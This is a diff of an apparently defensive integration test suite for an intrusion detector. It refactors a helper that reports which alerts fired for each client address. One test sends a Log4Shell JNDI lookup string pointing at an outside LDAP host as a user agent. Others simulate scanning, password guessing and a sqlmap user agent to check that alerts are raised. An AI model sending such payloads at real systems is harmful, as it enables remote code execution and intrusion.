@@ -9,6 +9,7 @@ import { describeWith } from "./requires.ts";
 import { startDav } from "./servers/dav.ts";
 import { inNetns, type Server } from "./servers/process.ts";
 import { startSite } from "./servers/site.ts";
+import { told } from "./told.ts";
 import { until } from "./until.ts";
 
 // Real clients against real servers, watched by the real program: who attacks is told, who does not is not. Some ten
@@ -89,22 +90,12 @@ describeWith(["root", ...PROGRAMS], "real clients and real servers", () => {
     return act(["curl", "-s", "--path-as-is", "--interface", from, ...args, ...urls]);
   }
 
-  /** What was told of an address: the worst severity, and every rule. */
-  function told(ip: string): { severity: string; rules: string[] } {
-    const alerts = program.lines.filter((line) => line.ip === ip && line.state === "raised");
-    const severities = ["critical", "warning", "info"].filter((one) =>
-      alerts.some((alert) => alert.severity === one),
-    );
-    const rules = alerts.flatMap(({ findings }) => (findings as { rule: string }[]).map(({ rule }) => rule));
-    return { severity: severities[0] ?? "none", rules: [...new Set(rules)] };
-  }
-
   test(
     "a scanner's list is critical, for what it asks for and for how much of it is not there",
     async () => {
       await curls(CLIENTS.scanner, ["-A", BROWSER], SCAN);
-      await until(() => told(CLIENTS.scanner).severity === "critical", "the scanner");
-      expect(told(CLIENTS.scanner).rules).toEqual(
+      await until(() => told(program.lines, CLIENTS.scanner).severity === "critical", "the scanner");
+      expect(told(program.lines, CLIENTS.scanner).rules).toEqual(
         expect.arrayContaining(["sensitive-path", "exploit-probe", "exploit", "distinct-4xx"]),
       );
     },
@@ -116,8 +107,8 @@ describeWith(["root", ...PROGRAMS], "real clients and real servers", () => {
     async () => {
       // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack.
       await curls(CLIENTS.log4j, ["-A", "${jndi:ldap://198.51.100.24/a}"], [""]);
-      await until(() => told(CLIENTS.log4j).severity === "warning", "the lookup");
-      expect(told(CLIENTS.log4j).rules).toEqual(["exploit"]);
+      await until(() => told(program.lines, CLIENTS.log4j).severity === "warning", "the lookup");
+      expect(told(program.lines, CLIENTS.log4j).rules).toEqual(["exploit"]);
     },
     TIMEOUT,
   );
@@ -126,8 +117,8 @@ describeWith(["root", ...PROGRAMS], "real clients and real servers", () => {
     "wrong passwords are told, however many there are in one connection",
     async () => {
       await curls(CLIENTS.guesser, ["-A", BROWSER, "-u", "ann:wrong"], Array(30).fill("private/"));
-      await until(() => told(CLIENTS.guesser).severity === "warning", "the guesser");
-      expect(told(CLIENTS.guesser).rules).toContain("http-brute-force");
+      await until(() => told(program.lines, CLIENTS.guesser).severity === "warning", "the guesser");
+      expect(told(program.lines, CLIENTS.guesser).rules).toContain("http-brute-force");
     },
     TIMEOUT,
   );
@@ -176,9 +167,10 @@ describeWith(["root", ...PROGRAMS], "real clients and real servers", () => {
       expect(Number(count("dav.log", `^${CLIENTS.dav} .*PUT .* 201 `))).toBe(40);
       // What comes after is told after: so all before it was seen.
       await curls(CLIENTS.visitor, ["-A", "sqlmap/1.8"], [""]);
-      await until(() => told(CLIENTS.visitor).severity === "warning", "the last request");
-      expect(told(CLIENTS.visitor).rules).toContain("scanner-agent");
-      for (const ip of [CLIENTS.mirror, CLIENTS.dav]) expect(["none", "info"]).toContain(told(ip).severity);
+      await until(() => told(program.lines, CLIENTS.visitor).severity === "warning", "the last request");
+      expect(told(program.lines, CLIENTS.visitor).rules).toContain("scanner-agent");
+      for (const ip of [CLIENTS.mirror, CLIENTS.dav])
+        expect(["none", "info"]).toContain(told(program.lines, ip).severity);
     },
     TIMEOUT,
   );
